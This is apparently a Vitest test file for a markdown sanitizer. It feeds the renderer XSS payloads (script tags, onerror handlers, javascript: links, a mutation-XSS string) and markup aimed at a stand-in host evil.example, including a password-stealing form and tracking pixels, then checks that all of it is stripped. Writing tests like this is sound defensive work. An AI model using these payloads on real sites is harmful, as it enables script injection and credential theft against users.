// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { renderMarkdown } from "./markdown";

/** The rendered HTML parsed back, to ask it questions instead of matching strings. */
function render(markdown: string): HTMLElement {
  const root = document.createElement("div");
  root.innerHTML = renderMarkdown(markdown);
  return root;
}

describe("renderMarkdown", () => {
  it("keeps what exercise texts use", () => {
    const root = render(
      [
        "# Gather",
        "Run **three** downloads with `asyncio.gather` — see [the docs](https://docs.python.org/3/).",
        "",
        "```python",
        "await asyncio.gather(a(), b())",
        "```",
        "",
        "| a | b |",
        "|:-:|---|",
        "| 1 | 2 |",
        "",
        "1. first",
        "2. second",
        "",
        "> note",
        "",
        "![timeline](img/timeline.svg)",
      ].join("\n"),
    );
    expect(root.querySelector("h1")?.textContent).toBe("Gather");
    expect(root.querySelector("strong")?.textContent).toBe("three");
    expect(root.querySelector("pre code")?.className).toBe("language-python");
    expect(root.querySelectorAll("td")).toHaveLength(2);
    expect(root.querySelector("th")?.getAttribute("align")).toBe("center");
    expect(root.querySelectorAll("ol li")).toHaveLength(2);
    expect(root.querySelector("blockquote")?.textContent?.trim()).toBe("note");
    expect(root.querySelector("img")?.getAttribute("src")).toBe("img/timeline.svg");
  });

  it("drops <style> and style attributes (the page cannot be restyled)", () => {
    const root = render(
      '<style>body { background: red }</style>\n\n<p style="color:red">text</p>\n\n<div style="background:url(https://evil.example/x.png)">x</div>',
    );
    expect(root.querySelector("style")).toBeNull();
    expect(root.innerHTML).not.toContain("background");
    expect(root.innerHTML).not.toContain("url(");
    expect(root.querySelector("[style]")).toBeNull();
    expect(root.textContent).toContain("text");
  });

  it("drops forms and their controls", () => {
    const root = render(
      '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button formaction="https://evil.example">Send</button><textarea></textarea><select><option>1</option></select></form>',
    );
    for (const tag of ["form", "input", "button", "textarea", "select", "option"])
      expect(root.querySelector(tag), tag).toBeNull();
    expect(root.innerHTML).not.toContain("evil.example");
  });

  it("drops scripts, event handlers and javascript: links", () => {
    const root = render(
      [
        "<script>alert(1)</script>",
        '<img src="x.png" onerror="alert(1)">',
        "[click](javascript:alert(1))",
        '<a href="JaVaScRiPt:alert(1)">x</a>',
        '<a href=" javascript:alert(1)">y</a>',
        '<svg onload="alert(1)"><script>alert(1)</script></svg>',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
      ].join("\n\n"),
    );
    expect(root.querySelector("script, svg, math, style")).toBeNull();
    expect(root.innerHTML).not.toMatch(/onerror|onload|javascript:/i);
  });

  it("drops frames, embedded objects, media and document-level tags", () => {
    const root = render(
      [
        '<iframe src="https://evil.example"></iframe>',
        '<object data="https://evil.example/x.swf"></object>',
        '<embed src="https://evil.example/x">',
        '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>',
        '<audio src="https://evil.example/a.mp3"></audio>',
        '<picture><source srcset="https://evil.example/a.png"></picture>',
        '<link rel="stylesheet" href="https://evil.example/a.css">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        '<base href="https://evil.example/">',
      ].join("\n\n"),
    );
    expect(root.querySelector("*:not(p)")).toBeNull();
    expect(root.innerHTML).not.toContain("evil.example");
  });

  it("keeps only images from the site itself; others become their alt text", () => {
    const remote = [
      "![tracker](https://evil.example/pixel.png)",
      "![proto](//evil.example/pixel.png)",
      '<img src="/\\evil.example/x.png" alt="backslash">',
      '<img src=" https://evil.example/x.png" alt="spaced">',
      '<img src="h&#9;ttps://evil.example/x.png" alt="tabbed">',
      '<img src="data:image/svg+xml,<svg/>" alt="data">',
      '<img src="local.png" srcset="https://evil.example/big.png 2x" alt="srcset">',
    ];
    const root = render(remote.join("\n\n"));
    expect(root.innerHTML).not.toContain("evil.example");
    expect(root.innerHTML).not.toContain("data:");
    expect(root.textContent).toContain("tracker");
    expect(root.textContent).toContain("backslash");
    // A local image keeps its src and loses its srcset.
    const kept = [...root.querySelectorAll("img")];
    expect(kept.map((img) => img.getAttribute("src"))).toEqual(["local.png"]);
    expect(kept[0]?.hasAttribute("srcset")).toBe(false);
  });

  it("opens off-site links safely and leaves on-site links alone", () => {
    const root = render(
      "[docs](https://docs.python.org/3/) [next](#/exercise/lock-counter) [mail](mailto:a@b.example) [proto](//evil.example/)",
    );
    const links = [...root.querySelectorAll("a")];
    const by = (text: string) => links.find((a) => a.textContent === text);
    expect(by("docs")?.getAttribute("target")).toBe("_blank");
    expect(by("docs")?.getAttribute("rel")).toBe("noopener noreferrer");
    expect(by("proto")?.getAttribute("rel")).toBe("noopener noreferrer");
    expect(by("next")?.hasAttribute("target")).toBe(false);
    expect(by("next")?.getAttribute("href")).toBe("#/exercise/lock-counter");
    expect(by("mail")?.hasAttribute("target")).toBe(false);
  });

  it("never takes target or rel from the text", () => {
    const root = render('<a href="#top" target="_top" rel="opener">x</a>');
    const link = root.querySelector("a");
    expect(link?.hasAttribute("target")).toBe(false);
    expect(link?.hasAttribute("rel")).toBe(false);
  });
});
